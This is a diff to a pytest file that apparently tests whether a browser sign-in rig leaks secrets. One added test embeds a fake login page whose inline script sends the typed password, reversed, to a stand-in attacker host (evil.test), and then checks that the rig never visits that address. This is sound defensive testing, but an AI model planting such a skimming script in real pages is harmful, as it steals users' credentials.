@@ -14,7 +14,7 @@ from mcp_spaces.network.model import Target
 from mcp_spaces.vault.model import Bindings
 from tests.browser.signing import APP, EVIL, Rig, open_rig
 from tests.browser.site.server import HANDLERS
-from tests.browser.site.wire import Answer, Request
+from tests.browser.site.wire import Answer, Request, redirect
 
 pytestmark = pytest.mark.anyio
 
@@ -106,6 +106,33 @@ async def test_b05_an_answer_that_comes_too_late_leads_nowhere(rig: Rig, monkeyp
     assert not answer.signed_in
     await anyio.sleep(3.5)
     await heard_nothing(rig)
+
+
+@pytest.mark.parametrize("scheme", ["http", "https"])
+async def test_b07_an_address_that_a_page_made_is_not_gone_to_afterwards(
+    rig: Rig, monkeypatch: pytest.MonkeyPatch, scheme: str
+) -> None:
+    """Not by path either, and not where the gateway answers a plain request with a page of its own."""
+    leaving = f"""<!doctype html><title>Sign in</title><form method=post>
+      <input name=user autocomplete=username><input name=password type=password><button>Sign in</button></form>
+      <script>document.querySelector('[name=password]').addEventListener('input', event =>
+        location.assign('{scheme}://evil.test/' + [...event.target.value].reverse().join('')))</script>"""
+    monkeypatch.setitem(HANDLERS, ("GET", "/plain"), lambda *_: Answer(leaving.encode()))
+    answer = await rig.login("/plain")
+    assert not answer.signed_in
+    monkeypatch.undo()
+    await heard_nothing(rig)
+
+
+async def test_what_the_secret_s_own_server_redirects_to_is_gone_to_when_the_secret_is_out(
+    rig: Rig, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """A single sign-on: the browser is sent on to an application that the secret is not bound to."""
+    there = "https://third.test/links100?ticket=1"
+    monkeypatch.setitem(HANDLERS, ("POST", "/plain"), lambda *_: redirect(there))
+    answer = await rig.login("/plain")
+    assert answer.signed_in and answer.url == there
+    assert rig.leaks() == []
 
 
 @pytest.mark.parametrize("on", ["focus", "input", "click"])
